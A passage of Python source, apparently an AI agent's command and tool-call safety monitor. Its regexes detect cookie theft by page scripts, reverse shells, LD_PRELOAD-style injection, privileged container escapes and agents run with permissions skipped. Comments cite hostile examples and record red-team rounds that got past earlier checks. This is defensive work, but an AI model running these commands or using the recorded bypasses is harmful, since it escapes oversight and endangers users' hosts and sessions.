_VCS_TOOL = re.compile(r"(?i)(?:^|_)(?:git|github|gitlab|gitea|forgejo|bitbucket|codecommit|gerrit|hg|mercurial|svn|"
                       r"jj|sapling)(?=_|$)")
_VCS_WORDS = frozenset({"message", "commit_message", "commitmessage", "tag_message", "title", "description", "body",
                        "subject", "summary", "notes", "comment", "release_notes", "annotation"})
# argument names a browser or desktop tool gives the element it acts on, described for people
# (Playwright MCP's "element": "Delete button"); what it types or runs is not among them
_DESCRIBES_KEYS = frozenset({"element", "element_description", "label", "aria_label", "alt", "placeholder"})
# ...but a tool that may type or run its text (a terminal's send_text, tmux send-keys,
# a database's exec) has no prose: every argument is scanned
_TEXT_RUNNER_TOOL = re.compile(r"term|shell|exec|run|tmux|console|repl|key|command|cmd|sql|eval|script|"
                               r"type|input|send|spawn|process|job|task|ssh|docker|kube|computer|pty|zellij|screen|"
                               r"chars|fill|browser|jupyter|notebook|cell|kernel|python|pg\b|psql", re.I)
_SQL_TOOL = re.compile(r"sql|db|database|postgres|mysql|maria|sqlite|mongo|redis|bigquery|snowflake|supabase|"
                       r"clickhouse|duckdb|neon|planetscale|dynamo|cassandra|oracle|mssql|query|migrat|table|schema|statement|"
                       r"stmt|ddl|dml|"
                       # (probe round 32, mcp32) a graph database's query language
                       r"neo4j|cypher|memgraph|gremlin|falkor",
                       re.I)
_SEARCH_TOOL = re.compile(r"search|docs|lookup|perplexity|ask|research|find", re.I)
_PROSE_TOOL = re.compile(r"issue|pull_request|comment|message|post|chat|slack|discord|notion|page|email|mail|"
                         r"linear|jira|ticket|note|review|wiki|confluence|calendar|library|memory|thought|thinking|"
                         r"observation|knowledge|remember|recall|"
                         # (probe round 34, benign38) a model's: its prompt and messages are text
                         # for the model (mcp__ollama__generate {"prompt": "what does DROP TABLE do"})
                         r"ollama|openai|anthropic|llm|gpt|mistral|groq|perplexity|deepseek|completion", re.I)
# a browser's page script (puppeteer_evaluate {"script": "document.title"}) is no shell
# a tool that by its name sends local files elsewhere (an upload, a share, a sync, a backup)
# another tool named for opening this machine to the network (probe round 26); one that
# only lists or describes them is not
_EXPOSES = re.compile(r"(?i)tunnel|port[_-]?forward|forward[_-]?port|expose|funnel|ngrok|localtunnel|cloudflared|"
                      r"public[_-]?url|reverse[_-]?(?:shell|proxy)|bind[_-]?shell")
_EXPOSE_QUERY = re.compile(r"(?i)__(?:list|get|describe|show|status|read|search|find|view)[_a-z]*$")
_SENDS_FILES = re.compile(r"upload|send|share|attach|publish|deploy|push|sync|backup|transfer|put_?object|export|mirror",
                          re.I)
_BROWSER_TOOL = re.compile(r"puppeteer|playwright|browser|chrome|selenium|webdriver", re.I)
# what a page holds of the user's sessions, and the ways a page script sends it out
# (probe round 32, mcp32: and a driver's own reads of them, Playwright's context().cookies()
# and storageState(), the DevTools protocol's getAllCookies)
_PAGE_SECRET = re.compile(r"document\s*\.\s*cookie|document\s*\[\s*['\"]cookie|localStorage|sessionStorage|indexedDB"
                          r"|credentials\s*\.\s*get|cookieStore|\.\s*cookies\s*\(|storageState\s*\(|get(?:All)?Cookies\b")
# (probe round 36, exfil36) what else a page holds of the signed-in user: its own text and
# markup, a form's fields (a password box), a response of the site's own API read in the
# script; sent to another origin it is the session's data leaving, as a cookie is
_PAGE_CONTENT = re.compile(r"outerHTML|innerHTML|innerText|textContent|new\s+FormData|document\s*\.\s*forms"
                           r"|\.elements\b|type\s*=\s*\\?['\"]?password|\.value\b|getSelection")
_PAGE_RESPONSE_READ = re.compile(r"\.(?:text|json|blob|arrayBuffer|formData)\s*\(\s*\)|responseText")
_PAGE_SEND = re.compile(r"fetch\s*\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\.src\s*=|\.href\s*="
                        r"|location\s*=|location\s*\.\s*(?:assign|replace)|window\s*\.\s*open|\.submit\s*\(|\.action\s*="
                        r"|import\s*\(|\$\.(?:ajax|get|post)|axios", re.I)
# (probe round 32, mcp32) a browser tool's argument naming the program it launches as the
# browser (Puppeteer's launchOptions.executablePath, a driver's binary), and the browsers
_BROWSER_PROGRAM_KEYS = frozenset({"executablepath", "executable", "browserpath", "chromepath", "chromiumpath",
                                   "binary", "binarypath", "binarylocation", "browserexecutable", "driverpath",
                                   "chromedriverpath", "executablefile", "browserbinary"})
_KNOWN_BROWSER = re.compile(r"(?i)(?:^|/|\\)(?:google[ -]chrome(?:-stable|-beta|-unstable)?|chrom(?:e|ium)(?:-browser)?|"
                            r"msedge|microsoft-edge(?:-stable)?|firefox|brave(?:-browser)?|headless_shell|chrome-headless-shell|"
                            r"chromedriver|geckodriver|msedgedriver|Google Chrome(?: for Testing)?|Chromium|Microsoft Edge|"
                            r"Firefox|Brave Browser)(?:\.exe|\.app)?(?:/Contents/MacOS/[^/]+)?$")
REASON_BROWSER_PROGRAM = "a browser tool launches a program that is no browser: {program}"
# (probe round 49, tools50) an AI agent's MCP server (codex mcp-server, the Gemini and Claude
# Code wrappers) called with its approvals switched off in its arguments ({"sandbox":
# "danger-full-access"}, {"yolo": true}, {"permissionMode": "bypassPermissions"}): the agent
# started as `codex -s danger-full-access` is (KKKDD); steipete's claude-code-mcp runs every
# prompt with --dangerously-skip-permissions, its own words
_UNGUARDED_AGENT_TOOLS = frozenset({("claude", "claudecode")})
_AGENT_PROMPT_KEYS = frozenset({"prompt", "message", "messages", "input", "query", "text", "instructions", "task",
                                "content", "question", "cwd", "workfolder", "workdir", "directory", "conversationid",
                                "sessionid", "model", "basepath", "includedirectories", "files"})
_CAMEL_HUMP = re.compile(r"(?<=[a-z0-9])([A-Z])")


_agent_server = dialects.agent_server


def _unguarded_agent_call(tool: str, args: Mapping[str, Any]) -> str | None:
    """(probe round 49, tools50) The argument with which an agent's MCP server is called
    with its approvals off (read as the program's options), or None."""
    program = _agent_server(tool)
    if program is None:
        return None
    if (program, dialects.canon(tool.rsplit("__", 1)[-1])) in _UNGUARDED_AGENT_TOOLS:
        return "claude --dangerously-skip-permissions (what this server runs every prompt with)"
    words: list[str] = []
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if not isinstance(k, str) or dialects.canon(k) in _AGENT_PROMPT_KEYS:
            continue
        opt = "--" + _CAMEL_HUMP.sub(r"-\1", k.strip().lstrip("-")).casefold().replace("_", "-")
        if v is True or (isinstance(v, str) and v.strip().casefold() == "true"):
            words.append(opt)
        elif isinstance(v, (str, int)) and not isinstance(v, bool) and len(str(v)) < 4096:
            words.append(f"{opt}={str(v).strip()}")
        elif isinstance(v, list) and all(isinstance(x, str) for x in v[:_ARGS_ITEMS]):
            words.append(f"{opt}={','.join(v[:_ARGS_ITEMS])[:4096]}")   # (a tool list: --allowedTools=Bash,Read)
        elif isinstance(v, (list, Mapping)):
            words.append(f"{opt}={json.dumps(v, default=str)[:4096]}")
    return _unguarded_agent(program, words) if words else None


# (probe round 49, tools50) a tool named for installing or enabling an MCP server, an
# extension or a plugin (mcp-installer's install_repo_mcp_server, Smithery's install_server,
# enable_extension): a program fetched and run from then on with the agent's tools, as
# `claude mcp add` or `npx @smithery/cli install` is asked (KKADD)
_INSTALL_VERBS = frozenset({"install", "add", "register", "enable", "activate"})
_INSTALL_NOUNS = frozenset({"mcp", "server", "servers", "extension", "extensions", "plugin", "plugins"})


@lru_cache(maxsize=4096)
def _installs_agent_tool(tool: str) -> bool:
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return False
    op = set(_op_words(tool.rsplit("__", 1)[-1]))
    if op & _START_VERBS and ("mcp" in op or op & _INSTALL_NOUNS and tool.count("__") >= 2
                              and dialects.canon(tool.split("__")[1]) in _MCP_MANAGERS):
        return True
    return bool(op & _INSTALL_VERBS) and bool(op & _INSTALL_NOUNS)


# (probe round 50, tools51) ...and one starting an MCP server by its name (toolhive's
# run_server, start_mcp_server, an MCP manager's or gateway's start of a server): the
# program is fetched by name from a registry and run, as `thv run fetch` or `docker mcp
# server enable` is asked (KKADD); a project's own start_server elsewhere stays its tool
_START_VERBS = frozenset({"run", "start", "launch", "spawn", "serve"})
_MCP_MANAGERS = frozenset({"toolhive", "thv", "mcpdocker", "dockermcp", "dockermcpgateway", "mcpgateway", "mcpm",
                           "mcphub", "metamcp", "smithery", "mcpmanager", "mcpproxy", "magg", "pluggedin",
                           "pluggedinmcp", "onemcp", "1mcp", "mcpx", "toolhivemcp", "mcpoptimizer"})


# (probe round 49, tools50) a browser tool named for handing back the session's cookies or
# stored state (get_cookies, browser_storage_state, get_local_storage; not set_ or clear_),
# and a page script's writes of them, which read nothing
_SESSION_TOOL = re.compile(r"(?i)cookie|storage_?state|local_?storage|session_?storage")
_SESSION_TOOL_WRITES = frozenset({"set", "add", "delete", "clear", "remove", "write", "put", "import", "load",
                                  "restore", "inject", "accept", "reject", "dismiss", "consent", "banner"})
_FILE_URL_IN_TEXT = re.compile(r"(?i)\bfile:/[^\s\"'<>`]*")
_PAGE_CODE_KEYS = frozenset({"function", "script", "code", "expression", "js", "javascript", "source", "fn",
                             "pagefunction", "func", "body", "snippet"})
# ... and reads that hand back none of it: a stored item under a name that is no secret's
# (getItem('theme'), getItem('settings')), a count of the cookies, a driver's cookies kept in
# a variable only counted
_PAGE_NAMED_ITEM = re.compile(r"(?i)(?:local|session)Storage\s*\.\s*getItem\s*\(\s*(['\"`])(?![^'\"`]*(?:token|auth|"
                              r"sess|sid|jwt|key|secret|pass|pwd|cred|cookie|bearer|refresh|access|login|user|account"
                              r"|oauth|api|csrf|xsrf))[^'\"`]{0,100}\1\s*\)")
_PAGE_SECRET_COUNTED = re.compile(r"(?:document\s*\.\s*cookie|\.\s*cookies\s*\(\s*\)\s*\)?|(?:local|session)Storage)"
                                  r"\s*\.\s*length\b")
_PAGE_SESSION_VAR = re.compile(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:await\s+)?[\w$.()\s]*?"
                               r"\.\s*cookies\s*\(\s*\)\s*;?")
_PAGE_SECRET_WRITES = re.compile(r"document\s*\.\s*cookie\s*=(?!=)|(?:local|session)Storage\s*\.\s*"
                                 r"(?:setItem|removeItem|clear)\b")


def _browser_program(args: Any, depth: int = 0) -> str | None:
    """A program a browser tool's arguments name for it to launch that is not a known
    browser or driver (launchOptions.executablePath "/tmp/evil"), or None."""
    if not isinstance(args, Mapping) or depth > 3:
        return None
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if isinstance(v, Mapping):
            hit = _browser_program(v, depth + 1)
            if hit is not None:
                return hit
        elif isinstance(k, str) and isinstance(v, str) and v.strip() and dialects.canon(k) in _BROWSER_PROGRAM_KEYS \
                and not _KNOWN_BROWSER.search(v.strip()):
            return v.strip()
    return None


# a tool whose one job is the model's own reasoning (sequentialthinking, think): it hands
# the thought back, it sends nothing
_THINKING_TOOL = re.compile(r"^(?:sequential_?)?think(?:ing)?$", re.I)
# a page script's request to a path of its own origin (fetch('/api/me', ...)): what it
# sends goes back to the site that stored it; no address, no escape, no decoding anywhere
_SAME_ORIGIN_FETCH = re.compile(r"fetch\s*\(\s*(['\"`])/[A-Za-z0-9_.~-]")
# (probe round 36, benignnear36) a literal address of this machine's loopback, up to its path
# (a path, query or fragment must follow: 'http://localhost' + '.evil.com' is another host)
_PAGE_LOOPBACK_URL = re.compile(r"(?i)\bhttps?://(?:localhost|127(?:\.\d{1,3}){3}|\[::1\])(?::\d{1,5})?(?=[/?#])")
# (probe round 36, loosen38) ...and an address a browser reads as another host without ://: a
# protocol-relative '//evil.com' and a special scheme with no slashes ('http:evil.com',
# 'https:/evil.com', 'wss:evil.com' from an https page)
_PAGE_URL_MAKERS = re.compile(r"://|\\|atob|fromCharCode|fromCodePoint|unescape|decodeURI|eval|Function|String\s*\.\s*raw"
                              r"|\bURL\s*\(|baseURI|<base|(?<![\w/.~-])['\"`][ \t]*//|['\"`]\s*(?:https?|wss?|ftp)\s*:", re.I)


def _same_origin_sends(script: str) -> bool:
    """Is every request a page script makes a fetch of a literal path on its own origin?"""
    if _PAGE_URL_MAKERS.search(script):
        return False
    return all(m.group(0).startswith("fetch") and _SAME_ORIGIN_FETCH.match(script, m.start())
               for m in _PAGE_SEND.finditer(script))


_MEMO_TEXT = 1024   # texts up to this length have their pattern hits remembered
# risky findings that may be a catastrophe the analysis could not rule out
_UNSURE_CATASTROPHES = frozenset({"rm_recursive_unknown", "code_catastrophe_unknown", "remote_file",
                                  # (probe round 31, residuals31) GIT_SSH_COMMAND=./evil git fetch,
                                  # export EDITOR=/tmp/x; git commit: a program git or a tool runs,
                                  # not known, asked in every mode as git -c core.sshCommand=... is
                                  "program_var_unknown",
                                  # (probe round 34, published8) claude --dangerously-skip-permissions,
                                  # gemini --yolo, q chat --trust-all-tools: another agent that runs
                                  # what a model chooses later, asked in every mode
                                  "unguarded_agent"})

# A shell started inside another program's argument with no command of its own: a path
# to a shell (not a #! line), a quoted bare shell name (system("sh")), exec sh, a shell
# given a terminal or another descriptor (sh -i, sh 0<&2, sh <$(tty)), an editor's or
# pager's ! escape (!sh). RE2: linear in the command's length.
_SHELL_WORD = r"(?:ba|da|z|k|c|tc|a|mk|ya|fi|rba|po|el)?sh"
_SHELL_ESCAPE = re2.compile(
    r"(?:^|[^#\w/.!-])!?\s*(?:/usr)?(?:/local)?/bin/" + _SHELL_WORD + r"\b"
    r"|[\"'`]" + _SHELL_WORD + r"(?:[\"'`]|\s+#)"
    r"|\bexec\s+" + _SHELL_WORD + r"\b"
    # (sh 2>&1, sh 1>&2: an output joined to another, no escape; sh >& /dev/tcp/...,
    # sh 0<&196 still are: probe round 32, residuals33)
    r"|(?:^|[\s'\"(;|&])" + _SHELL_WORD + r"\s+(?:[0-2]?>&[12]\s+)*(?:-[ip]\b|[0-2]?<&|[0-2]?>&(?:$|[^12]|[12][^\s;&|)])"
    r"|<\s*\$\(tty|<&)"
    r"|(?:^|[\s'\":])!\s*" + _SHELL_WORD + r"\b")
# what follows a shell's name when it is given its command (-c '...', a script file)
_SHELL_GIVEN = re.compile(r"\s*(?:-[a-zA-Z]*c\b|[\w./~-]+\.(?:sh|bash|zsh)\b|--version\b|--help\b|-n\b)")


# a variable that makes a program load or run code named elsewhere before its own:
# the loader's preload and audit libraries, a non-interactive bash's start-up file,
# perl's, ruby's and node's options that load a module first, iconv's converter path
_PRELOAD_ENV = re2.compile(
    r"(?:^|[\s;&|('\"])(?:export\s+)?(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|BASH_ENV|GCONV_PATH|PERL5OPT)="
    r"|(?:^|[\s;&|('\"])(?:export\s+)?RUBYOPT=[\"']?[^\s\"']*-r"
    r"|(?:^|[\s;&|('\"])(?:export\s+)?NODE_OPTIONS=[\"']?[^\"';&|]*(?:--require|--import|--loader|--experimental-loader|-r\s)"
    # (probe round 35, redteam35) a JVM's agent named in the options every java reads (a
    # jar's premain or a native library run before main), .NET's startup hooks
    r"|(?:^|[\s;&|('\"])(?:export\s+)?(?:JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS|JAVA_OPTS|MAVEN_OPTS|GRADLE_OPTS|SBT_OPTS)="
    r"[\"']?[^\"';&|]*-(?:javaagent|agentpath|agentlib):"
    # (an empty value, DOTNET_STARTUP_HOOKS= dotnet run, names none: probe round 35, benignnear35)
    r"|(?:^|[\s;&|('\"])(?:export\s+)?DOTNET_STARTUP_HOOKS=(?:[^\s;&|)'\"]|'[^']|\"[^\"])")
# (probe round 35, benignnear35) the JDK's own debugger agent (-agentlib:jdwp=transport=...,
# server=y: IDEs' remote debugging) loads no code of the command's; its launch= option runs
# a program, which keeps it an agent
_JVM_AGENTS = re.compile(r"-(javaagent|agentpath|agentlib):([^\s\"';&|]*)")
_JVM_VALUE_REST = re.compile(r"[^\"';&|]*")


def _preload_env(command: str):
    """The first preload variable (_PRELOAD_ENV) in a command's text whose value loads
    code, the JDK's jdwp debugger agent alone skipped; or None."""
    texts = [command]
    if ("OPT" in command or "HOOKS" in command) and ("'" in command or '"' in command):
        # (probe round 36, loosen36) a value spelled in joined quotes (DOTNET_STARTUP_HOOKS=''./h.dll,
        # RUBYOPT=''-r./x, JAVA_TOOL_OPTIONS="-agentlib:jdwp=..."' -javaagent:/tmp/x.jar') is
        # the same value to the shell: read again with the quotes taken out
        texts.append(command.replace("'", "").replace('"', ""))
    for text in texts:
        m = _preload_env_in(text)
        if m is not None:
            return m
    return None


def _preload_env_in(command: str):
    for m in _PRELOAD_ENV.finditer(command):
        if m.group(0).endswith("agentlib:"):
            rest = _JVM_VALUE_REST.match(command, m.end())
            value = m.group(0) + (rest.group(0) if rest else "")
            agents = _JVM_AGENTS.findall(value)
            if agents and all(kind == "agentlib" and (arg == "jdwp" or arg.startswith("jdwp="))
                              and "launch" not in arg.lower() for kind, arg in agents):
                continue
        return m
    return None
_CONTAINER_RUNNERS = frozenset({"docker", "podman", "nerdctl", "finch"})
# a container given the host itself: its root mounted, its processes, all privileges
# host directories a container given them rules the host through (probe round 31,
# published5: docker run -v $HOME:/h alpine rm -rf /h was allowed in bypass while -v /:/h
# was asked): the system's own directories, the users' homes, the container daemon's socket
_HOST_DIRS = frozenset({"/", "/home", "/Users", "/root", "/etc", "/usr", "/var", "/boot", "/dev", "/proc",
                        "/sys", "/lib", "/lib64", "/bin", "/sbin", "/run", "/var/run", "/opt", "/srv"})
_DAEMON_SOCKET = re.compile(r".*/(?:docker|podman|containerd|dockershim)\.sock")
_SYSTEM_SUBTREES = ("/etc/", "/usr/", "/boot/", "/root/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/var/lib/",
                    "/var/spool/", "/proc/", "/sys/")
_MOUNT_READ_ONLY = re.compile(r"(?i):(?:[\w,]*,)?ro(?:,|$)|(?:^|,)(?:readonly|ro)(?:=(?:true|1))?(?:,|$)")
_HOST_SECRET_FILES = frozenset({"shadow", "gshadow", "shadow-", "gshadow-", "sudoers", "master.passwd"})


def _host_mount(vol: str, home: str | None) -> bool:
    """Whether a -v/--volume/--mount value gives the container the host's root, a system
    directory, the home directory (or the one holding it) or the daemon's socket."""
    src = mount_pair(vol)[0] or ""
    if home is not None and (src == "~" or src.startswith("~/")):
        src = home + src[1:]   # (-v ~/:/h: the shell's tilde, as the analysis keeps it)
    src = re.sub(r"(?:/\.?)+$", "", src.replace("//", "/")) or ("/" if src.startswith("/") else src)
    if not src.startswith("/"):
        return False
    if src in _HOST_DIRS or (home is not None and src == home.rstrip("/")) \
            or _DAEMON_SOCKET.fullmatch(src) is not None:
        return True
    if src.startswith(_SYSTEM_SUBTREES):
        # (probe round 48, redteam48) a file or directory below a system directory, bound
        # by the root daemon: written there as root (-v /etc/sudoers.d:/s, -v /usr/bin:/b,
        # -v /root/.ssh:/k); read-only, only the root's files and the password and host keys
        # (-v /etc/localtime:/etc/localtime:ro is the clock)
        return not _MOUNT_READ_ONLY.search(vol) or src.startswith("/root/") \
            or posixpath.basename(src) in _HOST_SECRET_FILES or "/ssh_host_" in src
    return False


# (probe round 32, mcp32) a container tool's structured run: its image, its host mounts under
# these names (a list of SRC:DST, Docker's {SRC: {"bind": DST}}, a list of {"source",
# "target"}, HostConfig.Binds/Mounts) and its command
_CONTAINER_MOUNT_KEYS = frozenset({"volumes", "volume", "binds", "bind", "mounts", "mount", "bindmounts"})
_MOUNT_SOURCE_KEYS = ("source", "src", "hostpath", "host", "hostdir")
_MOUNT_TARGET_KEYS = ("target", "destination", "dst", "dest", "containerpath", "mountpath", "bind", "path")
_CONTAINER_COMMAND_KEYS = ("command", "cmd", "entrypoint", "args")
# a container tool's keys that share one of the host's namespaces ("network_mode": "host")
_CONTAINER_HOST_MODES = (("networkmode", "network"), ("network", "network"), ("net", "network"), ("pidmode", "pid"),
                         ("pid", "pid"), ("ipcmode", "ipc"), ("usernsmode", "userns"), ("utsmode", "uts"),
                         ("cgroupnsmode", "cgroupns"))


def _container_mounts(v: Any, out: list[str]) -> None:
    if isinstance(v, str):
        if ":" in v or "=" in v:
            out.append(v)
    elif isinstance(v, Mapping):
        spelled = {dialects.canon(k): x for k, x in v.items() if isinstance(k, str)}
        src = next((spelled[k] for k in _MOUNT_SOURCE_KEYS if isinstance(spelled.get(k), str)), None)
        dst = next((spelled[k] for k in _MOUNT_TARGET_KEYS if isinstance(spelled.get(k), str)), None)
        if src is not None and dst is not None:
            out.append(f"{src}:{dst}")
            return
        for k, x in list(v.items())[:_ARGS_ITEMS]:   # Docker SDK's {"/": {"bind": "/host"}}, {"/": "/host"}
            if isinstance(k, str) and k.startswith(("/", "~", "$")):
                target = x if isinstance(x, str) else next(
                    (x[t] for t in ("bind", "target", "destination") if isinstance(x, Mapping) and isinstance(x.get(t), str)), None)
                if target is not None:
                    out.append(f"{k}:{target}")
    elif isinstance(v, (list, tuple)):
        for x in list(v)[:_ARGS_ITEMS]:
            _container_mounts(x, out)


@lru_cache(maxsize=4096)
def _container_creator(tool: str) -> bool:
    """A tool named for running or creating a container (run_container, createContainer)."""
    words = set(_op_words(tool.split("__")[-1][:128]))
    return bool(words & {"run", "create", "start"} and words & {"container", "containers"})


def _container_run_line(tool: str, args: Mapping[str, Any]) -> str | None:
    """The docker run line a container tool's call stands for when it mounts host paths
    and runs a command (mcp__docker__run_container {"image", "volumes": ["/:/host"],
    "command": "rm -rf /host/home"}), or None."""
    if not _container_creator(tool):
        return None
    spelled: dict[str, Any] = {}
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if isinstance(k, str):
            key = dialects.canon(k)
            if key == "hostconfig" and isinstance(v, Mapping):
                spelled.update({dialects.canon(k2): v2 for k2, v2 in v.items() if isinstance(k2, str)})
            else:
                spelled.setdefault(key, v)
    image = spelled.get("image")
    if not isinstance(image, str) or not image.strip():
        return None
    mounts: list[str] = []
    for key in _CONTAINER_MOUNT_KEYS:
        if key in spelled:
            _container_mounts(spelled[key], mounts)
    command = next((spelled[k] for k in _CONTAINER_COMMAND_KEYS if spelled.get(k)), None)
    # (probe round 34, residuals35) the host's namespaces shared, as --network host, --pid
    # host, --privileged: the command is then the host's (iptables -F, nsenter -t 1 -a sh)
    shared = [f"--{flag}=host" for key, flag in _CONTAINER_HOST_MODES
              if isinstance(spelled.get(key), str) and spelled[key].strip().lower() == "host"]
    if spelled.get("privileged") is True or str(spelled.get("privileged")).lower() == "true":
        shared.insert(0, "--privileged")
    if not mounts and not shared or command is None:
        return None
    if isinstance(command, str):
        cmd = command
    elif isinstance(command, (list, tuple)) and all(isinstance(w, str) for w in command):
        cmd = shlex.join(command)
    else:
        return None
    flags = list(dict.fromkeys(shared))
    for m in mounts[:16]:
        flags += ["-v", m]
    return f"{shlex.join(['docker', 'run', *flags, image.strip()])} {cmd}"


# (probe round 36, residuals38) a Compose file's name (docker-compose.yml, compose.prod.yaml)
_COMPOSE_FILE = re.compile(r"(?i)(?:^|/)(?:docker-)?compose(?:\.[\w-]+)?\.ya?ml$")
# a Compose text's host grants where the text is no whole file (an Edit's new lines)
_COMPOSE_GRANT_LINE = re.compile(r"(?im)^\s*(?:(privileged)\s*:\s*[\"']?(?:true|yes|on)\b|(pid|userns_mode)\s*:\s*"
                                 r"[\"']?host\b|-\s*[\"']?((?:/|~)[^:\s\"']*:[^\s\"']*)|source\s*:\s*[\"']?((?:/|~)[^\s\"']*))")


def _compose_host_grant(texts: list[str], home: str | None) -> str | None:
    """The docker run flag a Compose text's services stand for that gives a container the
    host (--privileged, --pid=host, --userns=host, -v of the host's root, a system
    directory, the home or the daemon's socket), or None."""
    for text in texts[:16]:
        if not any(w in text for w in ("privileged", "host", "/", "~", "cap_add")):
            continue
        flags = compose_run_flags(text)
        if not flags:
            for m in _COMPOSE_GRANT_LINE.finditer(text[:100_000]):
                if m.group(1):
                    flags.append("--privileged")
                elif m.group(2):
                    flags.append("--pid=host" if m.group(2).lower() == "pid" else "--userns=host")
                else:
                    flags += ["-v", m.group(3) or f"{m.group(4)}:/mnt"]
        for i, f in enumerate(flags):
            if f.startswith("--cap-add="):
                if f[10:].upper().removeprefix("CAP_") in _HOST_CAPS:
                    return f
            elif f.startswith("--device="):
                if _HOST_DEVICE.match(f[9:]):
                    return f
            elif f != "-v":
                if not (i and flags[i - 1] == "-v"):
                    return f
            elif i + 1 < len(flags) and _host_mount(flags[i + 1], home):
                return f"-v {flags[i + 1]}"
    return None


_HOST_CAPS = frozenset({"ALL", "SYS_ADMIN", "SYS_MODULE", "SYS_RAWIO", "DAC_READ_SEARCH"})
_HOST_DEVICE = re.compile(r"/dev/(?:sd[a-z]|nvme\d|vd[a-z]|xvd[a-z]|hd[a-z]|mmcblk\d|dm-\d|mapper/|disk/|k?mem\b|"
                          r"port\b)")


# (probe round 48, redteam48) containerd's ctr and LXD's lxc (Incus' incus) give a container
# the host in their own words: ctr run/container create --privileged, --mount of the host's
# root, --with-ns of another process' pid/mnt/user namespace; an LXD instance made privileged
# (security.privileged, raw.lxc, raw.idmap: the lxd group's way to root) or given a host
# directory as a disk device (source=/)
_LXD_CLIS = frozenset({"lxc", "incus"})
_GUEST_GRANTERS = _LXD_CLIS | {"ctr"}
_LXD_GRANTS = re.compile(r"(?i)^(?:security\.privileged(?:=(?:true|1|yes|on))?|raw\.lxc(?:=.*)?|raw\.idmap(?:=.*)?)$",
                         re.S)


_LXD_TEXT_GRANT = re.compile(r"(?i)security\.privileged\s*[:=]\s*[\"']?(?:true|1|yes|on)\b|raw\.(?:lxc|idmap)\b")
_LXD_TEXT_SOURCE = re.compile(r"(?i)\bsource\s*[:=]\s*[\"']?([/~][^\s\"',}]*)")


def _guest_grant(c: SimpleCommand, home: str | None) -> str | None:
    """ctr's, lxc's or incus' words that give a container the host (see _LXD_CLIS), or None."""
    argv = c.argv
    if c.name == "ctr":
        start = next((j + 1 for j in range(1, min(len(argv), 8)) if argv[j] == "run"
                      or argv[j] == "create" and argv[j - 1] in ("c", "container", "containers")), None)
        if start is None:
            return None
        args = argv[start:]
        for i, w in enumerate(args):
            if not w.startswith("-"):
                break
            nxt = args[i + 1] if i + 1 < len(args) else ""
            if w in ("--privileged", "--privileged=true"):
                return "ctr run " + w
            ns = w.split("=", 1)[1] if w.startswith("--with-ns=") else nxt if w == "--with-ns" else None
            if ns is not None and ns.split(":", 1)[0] in ("pid", "mount", "mnt", "user", "ipc"):
                return "ctr run --with-ns " + ns
            vol = w.split("=", 1)[1] if w.startswith("--mount=") else nxt if w == "--mount" else None
            if vol is not None and _host_mount(vol, home):
                return "ctr run --mount " + vol
        return None
    if c.name not in _LXD_CLIS:
        return None
    words = [w for w in argv[1:64] if not w.startswith("-") or "=" in w]
    if words[:2] in (["config", "edit"], ["profile", "edit"]) or words[:1] in (["launch"], ["init"], ["create"]) \
            and any(r.op in ("<", "<<", "<<<") for r in c.redirects):
        # (probe round 49, redteam49) lxc config edit NAME < conf.yaml, lxc profile edit: the
        # whole configuration from standard input or an editor, its raw.lxc and
        # security.privileged unseen; lxc launch IMAGE NAME < conf.yaml reads one too
        text = c.stdin_text
        if text is None or _LXD_TEXT_GRANT.search(text) or any(
                _host_mount(m.group(1) + ":/mnt", home) for m in _LXD_TEXT_SOURCE.finditer(text)):
            return c.name + " " + " ".join(words[:2]) + " (a configuration not shown)"
    for i, w in enumerate(words):
        if _LXD_GRANTS.match(w.split("--config=", 1)[-1]) and ("=" in w or i + 1 < len(words)
                                                               and (not w.lower().startswith("security.")
                                                                    or words[i + 1].lower() in ("true", "1", "yes", "on"))):
            return c.name + " " + w
        if w.startswith("source=") and _host_mount(w[7:] + ":/mnt", home) and "disk" in words:
            return c.name + " config device add ... disk " + w
    return None


def unseen_code(a: BashAnalysis, command: str, home: str | None = None) -> str | None:
    """What makes a command run code no one has seen, beyond a shell escape: a preload
    variable (LD_PRELOAD=/tmp/x.so ls), a crontab installed or edited (it runs later,
    unseen), a container given the host's root, processes or privileges (docker run -v
    /:/mnt alpine chroot /mnt sh). None when there is none."""
    m = _preload_env(command) if "=" in command else None
    if m is not None:
        return m.group(0).strip(" ;&|(")
    for c in a.commands:
        if c.name == "launchctl" and len(c.argv) >= 4 and c.argv[1] == "setenv":
            # (probe round 49, redteam49) launchctl setenv NAME VALUE: NAME=VALUE in every
            # program launchd starts from now on (DYLD_INSERT_LIBRARIES), as systemctl --user
            # set-environment NAME=VALUE is read above
            m = _preload_env(f"{c.argv[2]}={shlex.quote(c.argv[3])}")
            if m is not None:
                return "launchctl setenv " + c.argv[2]
        if c.name == "crontab" and any(w == "-e" or not w.startswith("-") for w in c.argv[1:]):
            # a table from a file or an editor, unseen (echo '...' | crontab - is read as code)
            return " ".join(c.argv)[:80]
        if c.name in _GUEST_GRANTERS:
            grant = _guest_grant(c, home)
            if grant is not None:
                return grant
        if c.name in _CONTAINER_RUNNERS and len(c.argv) > 1 and c.argv[1] in ("run", "create"):
            args = c.argv[2:]
            for i, w in enumerate(args):
                if w == "--":
                    break
                nxt = args[i + 1] if i + 1 < len(args) else ""
                if w == "--privileged" or w in ("--pid=host", "--userns=host") or (w in ("--pid", "--userns") and nxt == "host"):
                    return " ".join(c.argv[:2]) + " " + w
                # (probe round 36, residuals38) a capability that is the host's kernel or
                # files (ALL, SYS_ADMIN's mounts, SYS_MODULE's modules, SYS_RAWIO,
                # DAC_READ_SEARCH's open_by_handle_at) or a disk or memory device given raw:
                # --privileged in parts
                cap = w.split("=", 1)[1] if w.startswith("--cap-add=") else nxt if w == "--cap-add" else None
                if cap is not None and cap.upper().removeprefix("CAP_") in _HOST_CAPS:
                    return " ".join(c.argv[:2]) + " --cap-add " + cap
                dev = w.split("=", 1)[1] if w.startswith("--device=") else nxt if w == "--device" else None
                if dev is not None and _HOST_DEVICE.match(dev):
                    return " ".join(c.argv[:2]) + " --device " + dev
                vol = w.split("=", 1)[1] if w.startswith(("--volume=", "--mount=")) else \
